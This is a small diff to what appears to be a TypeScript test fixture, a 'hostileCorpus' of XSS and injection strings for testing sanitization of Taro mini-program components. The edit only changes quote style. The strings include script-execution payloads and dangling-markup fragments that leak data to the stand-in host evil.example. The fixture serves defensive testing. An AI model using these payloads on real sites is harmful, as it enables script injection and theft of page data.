@@ -211,7 +211,7 @@ export const hostileCorpus: Record<string, readonly string[]> = {
     '<taro-image-core src="javascript:alert(1)" onerror=alert(1)></taro-image-core>',
     '<taro-view-core style="position:fixed" onclick=alert(1)>x</taro-view-core>',
     '<web-view src="https://evil.example"></web-view><rich-text nodes="<script>"></rich-text>',
-    '<p>{{constructor.constructor(\'alert(1)\')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}</p>',
+    "<p>{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}</p>",
     '<x is="script">alert(1)</x><p is="taro-web-view-core">x</p><slot name=x>y</slot>',
   ],
   comments: [
@@ -308,7 +308,7 @@ export const hostileCorpus: Record<string, readonly string[]> = {
     '<a href="https://evil.example/?',
     "<img src='//evil.example/?",
     '<p title="',
-    '<style>@import \'//evil.example/?',
+    "<style>@import '//evil.example/?",
     '<form action=//evil.example><textarea name=x>',
     '<button formaction=//evil.example><option>',
     '<base href=//evil.example target="',
